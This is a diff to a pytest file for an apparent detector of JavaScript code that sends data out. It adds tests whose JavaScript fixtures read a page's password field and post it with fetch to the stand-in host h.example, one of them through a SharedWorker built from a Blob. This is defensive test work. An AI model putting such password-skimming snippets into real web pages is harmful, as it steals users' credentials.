@@ -5,7 +5,7 @@ from __future__ import annotations
 import time
 
 import pytest
-from flow_helper import Case, cases, flows_of, program, sends
+from flow_helper import Case, cases, decoded_flows_of, flows_of, program, sends
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -31,6 +31,21 @@ def test_known_misses(case: Case) -> None:
 def test_about_as_many_near_misses_as_flows_are_tried() -> None:
     silent = sum(not case.sends for case in CASES)
     assert len(CASES) // 3 < silent < len(CASES) * 2 // 3
+
+
+@pytest.mark.parametrize(("kept", "expected"), [("o.p", {"password>h.example"}), ("o.q", set())])
+def test_a_flow_is_found_when_what_is_set_stands_in_brackets(kept: str, expected: set[str]) -> None:
+    source = f"const o={{}};(({kept})=document.querySelector('input[type=password]').value);"
+    assert sends(decoded_flows_of((source + "fetch('https://h.example/',{body:o.p})").encode())) == expected
+
+
+@pytest.mark.parametrize(("kept", "expected"), [("m.data", {"password>h.example"}), ("m.type", set())])
+def test_what_is_posted_to_a_shared_worker_is_followed(kept: str, expected: set[str]) -> None:
+    code = "onconnect = (c) => { c.ports[0].onmessage = (m) => fetch('https://h.example/', {body: KEPT}); }"
+    code = code.replace("KEPT", kept)
+    source = f'const w = new SharedWorker(URL.createObjectURL(new Blob(["{code}"])));'
+    source += "w.port.postMessage(document.querySelector('input[type=password]').value)"
+    assert sends(decoded_flows_of(source.encode())) == expected
 
 
 def test_spans_are_those_of_the_read_the_call_and_the_function_around_it_when_a_flow_is_found() -> None:
